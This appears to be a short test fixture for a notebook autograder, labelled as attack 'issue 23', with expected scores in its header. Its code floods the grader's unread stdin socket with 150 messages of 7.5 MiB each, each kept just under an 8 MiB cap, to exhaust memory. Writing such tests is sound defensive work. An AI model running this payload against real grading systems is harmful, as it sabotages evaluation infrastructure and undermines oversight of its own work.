# class: E
# assignment: ex33_2_linear_rnn
# batch: mem
# attack: issue 23: answers honestly, then sends 150 whole messages of 7.5 MiB (each under the
#    8 MiB cap) on the stdin channel, which the grader never reads: they would all wait in the
#    grader's socket (1.1 GiB).
# deserve *: full
# deserve test_eig: 0
# held: test_eig
# %% append
import zmq

kernel = get_ipython().kernel
peer = kernel._parent_ident["shell"]  # the grader's identity on shell and stdin
payload = zmq.Frame(b"x" * (15 << 19))
for _ in range(150):
    kernel.stdin_socket.send_multipart([*peer, payload], copy=False)
